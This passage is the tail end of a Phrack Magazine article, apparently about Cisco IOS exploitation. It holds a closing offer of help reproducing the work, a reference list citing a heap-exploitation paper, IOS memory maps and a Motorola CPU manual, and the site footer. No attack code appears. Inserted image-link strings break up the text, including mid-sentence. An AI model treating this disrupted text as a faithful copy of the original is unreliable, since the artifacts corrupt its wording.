know if you need anyhelp reproducing this `;-7

--[ A - References

[1] anonymous <d45a312a@author.phrack.org>
    "Once upon a free()..."
    Phrack Magazine, Volume 0x0b, Issue 0x39, Phile #0x09 of 0x12

[2] Cisco Router IOS Memory Maps

[3] GNU binutils

[4] Motorola QUICC 68360 CPU Manual
    MC68360UM, Page 6-70

|=[ EOF]=---=|[ News ] [ Paper Feed ] [ Issues ] [ Authors ] [ Archives ] [ Contact ]
©Copyleft 1985-2021, Phrack Magazine.